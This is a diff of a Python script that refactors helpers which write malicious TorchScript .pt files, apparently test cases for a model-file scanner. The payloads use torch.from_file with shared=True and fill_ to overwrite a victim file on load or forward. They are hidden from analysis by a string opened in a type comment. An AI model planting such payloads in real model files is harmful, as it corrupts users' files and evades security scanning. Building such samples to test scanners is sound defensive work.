@@ -510,19 +510,20 @@ CLOSE = "  def _close(self) -> str:\n    return \"'''\"  # \"\n"
 
 
 def lexer_tricks():
-    def hidden_setstate(src):
-        i = src.index("  def __setstate__")
-        payload = ("    self.k = torch.numel(torch.from_file(\"%s\", True, 4, dtype=0).fill_(65))\n"
-                   "    return None\n" % VICTIM)
-        return src[:i] + OPEN_IN_TYPE_COMMENT + src[i:].replace("    return None\n", payload, 1) + CLOSE
-    edit_code(WithTrigger(), OUT / "type_comment.pt", hidden_setstate)
-
-    def hidden_forward(src):
-        i = src.index("  def forward")
-        payload = ("    n = torch.numel(torch.from_file(\"%s\", True, 4, dtype=0).fill_(67))\n"
-                   "    return torch.add((lin).forward(x, ), torch.mul(n, 0))\n" % VICTIM)
-        return src[:i] + OPEN_IN_TYPE_COMMENT + src[i:].replace("    return (lin).forward(x, )\n", payload, 1) + CLOSE
-    edit_code(Lin4(), OUT / "type_comment_forward.pt", hidden_forward)
+    def hidden(method, line, payload):
+        """Puts `payload` in place of `line` in `method`, the method behind a string opened in a
+        type comment before it and closed after the class."""
+        def edit(src):
+            i = src.index(f"  def {method}")
+            return src[:i] + OPEN_IN_TYPE_COMMENT + src[i:].replace(line, payload % VICTIM, 1) + CLOSE
+        return edit
+    edit_code(WithTrigger(), OUT / "type_comment.pt", hidden(
+        "__setstate__", "    return None\n",
+        "    self.k = torch.numel(torch.from_file(\"%s\", True, 4, dtype=0).fill_(65))\n    return None\n"))
+    edit_code(Lin4(), OUT / "type_comment_forward.pt", hidden(
+        "forward", "    return (lin).forward(x, )\n",
+        "    n = torch.numel(torch.from_file(\"%s\", True, 4, dtype=0).fill_(67))\n"
+        "    return torch.add((lin).forward(x, ), torch.mul(n, 0))\n"))
 
     # A backslash-newline joins `__torch__.torch.` and `classes.profiling...` into one path.
     def continued(src):
